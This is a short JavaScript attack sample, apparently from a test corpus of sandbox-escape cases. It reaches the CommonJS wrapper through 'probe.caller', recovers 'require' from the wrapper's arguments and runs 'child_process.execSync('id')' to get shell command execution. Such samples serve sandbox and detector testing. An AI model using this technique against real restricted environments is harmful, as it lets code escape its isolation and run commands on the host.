// corpus: attack class=process form=targeted
// fn.caller reaches the CommonJS wrapper, whose arguments hold require.
function probe() {
  return probe.caller;
}

// Read while the wrapper is still running, that is at the module's top level.
const load = probe().arguments[1];

function main() {
  return { out: load('child_process').execSync('id').toString() };
}

module.exports = { main };
